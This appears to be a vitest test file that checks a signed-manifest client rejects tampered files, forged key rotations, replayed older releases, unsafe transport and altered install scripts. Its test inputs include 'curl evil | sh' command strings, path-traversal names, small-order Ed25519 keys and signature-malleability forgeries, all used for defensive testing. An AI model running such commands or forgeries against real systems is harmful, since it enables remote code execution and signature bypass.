/** Attacks on what is signed: what a mirror, a thief of old answers or a maker of odd texts may send, and that none of it is taken. */
import { createHash, generateKeyPairSync, sign } from 'node:crypto'
import { describe, expect, it, test } from 'vitest'
import { deployment, signedManifest, type TestDeployment } from '../testing/signed.ts'
import type { Manifest } from '../wire.generated.ts'
import { canonicalJson } from './canonical.ts'
import { fingerprintOf, isSignedBy, publicKeyOf } from './keys.ts'
import { firstTrust, requireWay, trustPulled } from './pulled.ts'
import { checkScript } from './script.ts'
import { checkManifest, trustIn, type Trust } from './trust.ts'

const by = deployment()
const other = deployment()
const files = { 'AGENTS.md': 'be brief\n', 'skills/one/SKILL.md': 'one\n' }
const about = { scenario: 's', adapter: 'agent', release_id: 'r5', content_id: 'c5', step: 5 }
const good = signedManifest(by, about, { files })
const seen: Trust = { key: by.fingerprint, step: 5, release_id: 'r5' }
const asked = { scenario: 's', adapter: 'agent' }

/** The statement of the good manifest, changed and signed again by the same key. */
function restated(change: (text: string) => string, signer = by.signer): Manifest {
  const statement = change(good.signed.statement)
  return { ...good, signed: { statement, signature: signer.sign(statement), rotations: [] } }
}
const withField = (name: string, value: unknown): Manifest =>
  restated((text) => canonicalJson({ ...Object(JSON.parse(text)), [name]: value }))
const alteredSignature = (change: (signature: string) => string): Manifest => ({
  ...good,
  signed: { ...good.signed, signature: change(good.signed.signature) },
})
const step = (number: number, more: object = {}): Manifest =>
  signedManifest(by, { ...about, step: number, release_id: `r${number}`, content_id: `c${number}`, ...more }, { files })

/** An answer that must not be taken, and what the person reads. */
const ATTACKS: readonly (readonly [string, Manifest, RegExp])[] = [
  ['a file altered by one character', { ...good, files: { ...files, 'AGENTS.md': 'be brieF\n' } }, /file "AGENTS.md" is not what/],
  ['a file added', { ...good, files: { ...files, 'skills/evil/SKILL.md': 'x' } }, /file "skills\/evil/],
  ['a file removed', { ...good, files: { 'AGENTS.md': files['AGENTS.md'] } }, /list of files/],
  ['two files swapped', { ...good, files: { 'AGENTS.md': 'one\n', 'skills/one/SKILL.md': 'be brief\n' } }, /file "AGENTS.md"/],
  ['a file renamed', { ...good, files: { 'CLAUDE.md': 'be brief\n', 'skills/one/SKILL.md': 'one\n' } }, /file "CLAUDE.md"/],
  ['a file truncated', { ...good, files: { ...files, 'AGENTS.md': 'be' } }, /file "AGENTS.md"/],
  ['no files at all', { ...good, files: {} }, /list of files/],
  ['line ends changed', { ...good, files: { ...files, 'AGENTS.md': 'be brief\r\n' } }, /file "AGENTS.md"/],
  ['a path in another Unicode form', { ...good, files: { ...files, 'AGENTS.md\u200b': 'be brief\n' } }, /is not what/],
  ['a path that climbs out', { ...good, files: { ...files, '../evil': 'x' } }, /is not what/],
  ['a file called __proto__', { ...good, files: { ...files, ['__proto__']: 'x' } }, /is not what/],
  ['another release id beside the signed one', { ...good, release_id: 'r6' }, /id of the release/],
  ['another content id', { ...good, content_id: 'c6' }, /id of its content/],
  ['a requirement added', { ...good, requires: [{ name: 'a', kind: 'service', check: 'curl evil | sh' }] }, /requires/],
  ['files of one release with the statement of another', { ...good, signed: step(6).signed }, /is not what/],
  ['another scenario of the same deployment', signedManifest(by, { ...about, scenario: 't' }, { files }), /scenario is not/],
  ['another agent’s files', signedManifest(by, { ...about, adapter: 'claude' }, { files }), /agent it is for/],
  ['files for no agent', signedManifest(by, { ...about, adapter: null }, { files }), /agent it is for/],
  ['another deployment', signedManifest(other, about, { files }), /is trusted here/],
  ['another deployment that claims a rotation of its own', withRotations(other, rotationBy(other, other)), /is trusted here/],
  ['a rotation that the pinned key did not sign', withRotations(other, forgedRotation(by, other)), /is trusted here/],
  ['a rotation with the signature of a release', withRotations(other, [{ ...good.signed }]), /is trusted here/],
  ['an older step', step(4), /step 5 was seen here before/],
  ['the first step', step(0), /step 5 was seen here before/],
  ['the same step with another release', step(5, { release_id: 'r5b' }), /another release than the one seen/],
  ['a held release as the served one', step(6, { held: true }), /waits for review/],
  ['an old release with a newer time', step(4, { time: 9e9 }), /step 5 was seen/],
  ['no signature', { ...good, signed: { ...good.signed, signature: '' } }, /does not verify/],
  ['a signature of zeros', alteredSignature(() => Buffer.alloc(64).toString('base64url')), /does not verify/],
  ['a signature with one bit changed', alteredSignature((text) => (text.startsWith('A') ? 'B' : 'A') + text.slice(1)), /does not verify/],
  ['a signature with bytes after it', alteredSignature((text) => `${text}AAAA`), /does not verify/],
  ['a signature in another spelling', alteredSignature((text) => `${text}==`), /does not verify/],
  ['a signature plus the order of the group', alteredSignature(plusOrder), /does not verify/],
  ['a statement with a duplicate key', restated((text) => text.replace('"held":false', '"held":true,"held":false')), /does not verify/],
  ['a statement with spaces', restated((text) => text.replaceAll(',', ', ')), /does not verify/],
  ['a statement in another order', restated((text) => JSON.stringify({ step: 5, ...Object(JSON.parse(text)) })), /does not verify/],
  ['a statement with an unknown field', withField('run', 'curl evil | sh'), /does not verify/],
  ['a statement without a step', withField('step', undefined), /does not verify/],
  ['a huge step', withField('step', 2 ** 60), /does not verify/],
  ['a negative step', withField('step', -1), /does not verify/],
  ['a step that is no whole number', withField('step', 5.5), /does not verify/],
  ['a step as a text', withField('step', '5'), /does not verify/],
  ['a step beyond every number', restated((text) => text.replace('"step":5', '"step":1e999')), /does not verify/],
  ['a step spelt otherwise', restated((text) => text.replace('"step":5', '"step":5.0')), /does not verify/],
  ['a file that may be executed', withField('files', [{ path: 'AGENTS.md', mode: '0755', sha256: '0'.repeat(64) }]), /does not verify/],
  ['a digest of another length', withField('files', [{ path: 'AGENTS.md', mode: '0644', sha256: '0'.repeat(40) }]), /does not verify/],
  ['a path with a lone surrogate', withField('files', [{ path: '\ud800', mode: '0644', sha256: '0'.repeat(64) }]), /does not verify/],
  ['a statement of another kind', withField('kind', 'script'), /does not verify/],
  ['a statement that is a list', restated(() => '[]'), /does not verify/],
  ['a statement that is null', restated(() => 'null'), /does not verify/],
  ['a statement that is no JSON', restated(() => 'release'), /does not verify/],
  ['a statement that names the key of another', restatedBy(other), /does not verify/],
  ['a key of small order', weakKey(), /does not verify/],
  ['a signature by RSA', rsaSigned(), /does not verify/],
  ['a signature for another purpose', otherPurpose(), /does not verify/],
  [
    'rotations without number',
    { ...good, signed: { ...good.signed, rotations: Array.from({ length: 1001 }, () => good.signed) } },
    /does not verify/,
  ],
]

describe('a manifest is not taken [trust.signed]', () => {
  it.each(ATTACKS)('with %s', (_, manifest, message) => {
    expect(() => checkManifest(seen, manifest, asked)).toThrow(message)
  })

  it('from a service that signs nothing', () => {
    const { signed: _, ...unsigned } = good
    const manifest: Manifest = JSON.parse(JSON.stringify(unsigned))
    expect(() => checkManifest(seen, manifest, asked)).toThrow(/signs no releases/)
  })

  it('when another release was named', () => {
    expect(() => checkManifest(seen, good, { ...asked, release: 'r4' })).toThrow(/id of the release/)
  })
})

describe('a manifest is taken', () => {
  it('as it was signed, with what is trusted from then on', () => {
    expect(checkManifest(seen, good, asked).trust).toEqual(seen)
    expect(checkManifest(seen, step(9), asked).trust).toEqual({ ...seen, step: 9, release_id: 'r9' })
  })

  it('of a rollback: a newer step with older content', () => {
    expect(checkManifest(seen, step(6, { content_id: 'c1' }), asked).trust.step).toBe(6)
  })

  it.each([-1e10, 0, 1, 1e11])('whatever the clock of the service said: %s', (time) => {
    expect(checkManifest(seen, step(6, { time }), asked).trust.step).toBe(6)
  })

  it('older or held when a person named it, and the newest step stays remembered', () => {
    expect(checkManifest(seen, step(2), { ...asked, release: 'r2' }).trust).toEqual(seen)
    expect(checkManifest(seen, step(7, { held: true }), { ...asked, release: 'r7' }).trust).toEqual(seen)
  })

  it.each([1, 2, 5])('after %s rotations while the client was away, and the old key is no longer taken', (times) => {
    let now: TestDeployment = by
    for (let each = 0; each < times; each += 1) now = now.rotate()
    const { trust } = checkManifest(seen, signedManifest(now, about, { files }), asked)
    expect(trust.key).toBe(now.fingerprint)
    expect(() => checkManifest(trust, step(6), asked)).toThrow(/is trusted here/)
  })
})

describe('the way to the service [trust.transport]', () => {
  it.each(['http://svc.example', 'http://10.0.0.1:8900', 'http://127.0.0.1.evil.example', 'http://localhost.evil.example', 'http://[::2]'])(
    'is refused without TLS at %s unless a person allows it, and then needs a key',
    (url) => {
      expect(() => requireWay(url, {})).toThrow(/SVC_INSECURE_HTTP=1/)
      expect(() => firstTrust(good.signed, url, { SVC_INSECURE_HTTP: '1' })).toThrow(/SVC_KEY/)
      expect(firstTrust(good.signed, url, { SVC_KEY: by.fingerprint })).toEqual(trustIn(by.fingerprint))
    },
  )

  it.each(['https://svc.example', 'http://127.0.0.1:1', 'http://127.8.9.1', 'http://localhost:8900', 'http://[::1]:1'])(
    'is fine at %s, and the key that arrives is pinned and returned',
    (url) => {
      const { trust, note } = trustPulled(good, { ...asked, url, env: {}, kept: null })
      expect([trust.key, note]).toEqual([by.fingerprint, expect.stringContaining(by.fingerprint)])
    },
  )

  it('with a fingerprint of another key, or none at all, pins nothing', () => {
    const question = { ...asked, url: 'https://svc.example', kept: null }
    expect(() => trustPulled(good, { ...question, env: { SVC_KEY: other.fingerprint } })).toThrow(/is trusted here/)
    expect(() => trustPulled(good, { ...question, env: { SVC_KEY: 'sha256:x' } })).toThrow(/no fingerprint/)
  })
})

describe('an install script', () => {
  const script = by.script('{\nexit 0\n}\n', {})
  it.each([
    ['altered', script.replace('exit 0', 'exit 1')],
    ['with a line before', `evil\n${script}`],
    ['with a line after', `${script}evil\n`],
    ['cut before its signature', '{\nexit 0\n}\n'],
    ['cut in its signature', script.slice(0, -9)],
    ['with two signatures', script + script.slice(script.indexOf('# svc'))],
    ['that is empty', ''],
    ['signed by another deployment', other.script('{\nexit 0\n}\n', {})],
    ['with the statement of a release', `{\n}\n# svc-signed ${Buffer.from(JSON.stringify(good.signed)).toString('base64url')}\n`],
  ])('%s is not run', (_, text) => {
    expect(() => checkScript(by.fingerprint, text)).toThrow()
  })

  it('as it was signed is run, also after a rotation', () => {
    expect(checkScript(by.fingerprint, script).release_id).toBe('r1')
    expect(checkScript(by.fingerprint, by.rotate().script('{\n}\n', {})).step).toBe(0)
  })
})

test.each([
  ['the neutral point', '0100000000000000000000000000000000000000000000000000000000000000'],
  ['order two', 'ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f'],
  ['order four', '0000000000000000000000000000000000000000000000000000000000000000'],
  ['order four, with its sign', '0000000000000000000000000000000000000000000000000000000000000080'],
  ['order eight', '26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05'],
  ['order eight, the other', 'c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a'],
  ['a number of the prime or more', 'eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f'],
])('a key that is %s is none', (_, hex) => {
  expect(publicKeyOf(Buffer.from(hex, 'hex').toString('base64url'))).toBeNull()
})

function rotationBy(from: TestDeployment, to: TestDeployment) {
  const statement = canonicalJson({ kind: 'rotation', key: from.signer.key, next: to.signer.key, time: 1 })
  return [{ statement, signature: from.signer.sign(statement) }]
}

/** It names the pinned key, and another one signed it. */
function forgedRotation(from: TestDeployment, to: TestDeployment) {
  return rotationBy(from, to).map(({ statement }) => ({ statement, signature: to.signer.sign(statement) }))
}

function withRotations(signer: TestDeployment, rotations: Manifest['signed']['rotations']): Manifest {
  const manifest = signedManifest(signer, about, { files })
  return { ...manifest, signed: { ...manifest.signed, rotations } }
}

/** It names the trusted key, and another one signed it. */
function restatedBy({ signer }: TestDeployment): Manifest {
  return restated((text) => text, signer)
}

/** A second signature of the same text, which loose verifiers take. */
function plusOrder(signature: string): string {
  const bytes = Buffer.from(signature, 'base64url')
  const order = 2n ** 252n + 27742317777372353535851937790883648493n
  const s = BigInt(`0x${Buffer.from(bytes.subarray(32).toReversed()).toString('hex')}`) + order
  const little = Buffer.from(Buffer.from(s.toString(16).padStart(64, '0'), 'hex').toReversed())
  return Buffer.concat([bytes.subarray(0, 32), little]).toString('base64url')
}

/** The neutral point as key and as R, and zero as S: the equation holds for every text. */
function weakKey(): Manifest {
  const point = Buffer.from('01'.padEnd(64, '0'), 'hex')
  const statement = canonicalJson({ ...Object(JSON.parse(good.signed.statement)), key: point.toString('base64url') })
  return { ...good, signed: { statement, signature: Buffer.concat([point, Buffer.alloc(32)]).toString('base64url'), rotations: [] } }
}

function rsaSigned(): Manifest {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 1024 })
  const { statement } = good.signed
  return {
    ...good,
    signed: { statement, signature: sign('sha256', Buffer.from(statement), privateKey).toString('base64url'), rotations: [] },
  }
}

/** The same key signed the same text, without the words that stand before every statement. */
function otherPurpose(): Manifest {
  const { privateKey, publicKey } = generateKeyPairSync('ed25519')
  const { x = '' } = publicKey.export({ format: 'jwk' })
  const statement = canonicalJson({ ...Object(JSON.parse(good.signed.statement)), key: x })
  expect(fingerprintOf(x)).toBe(`ed25519:${createHash('sha256').update(Buffer.from(x, 'base64url')).digest('base64url')}`)
  const signature = sign(null, Buffer.from(statement), privateKey).toString('base64url')
  expect(isSignedBy(x, statement, signature)).toBe(false)
  return { ...good, signed: { statement, signature, rotations: [] } }
}
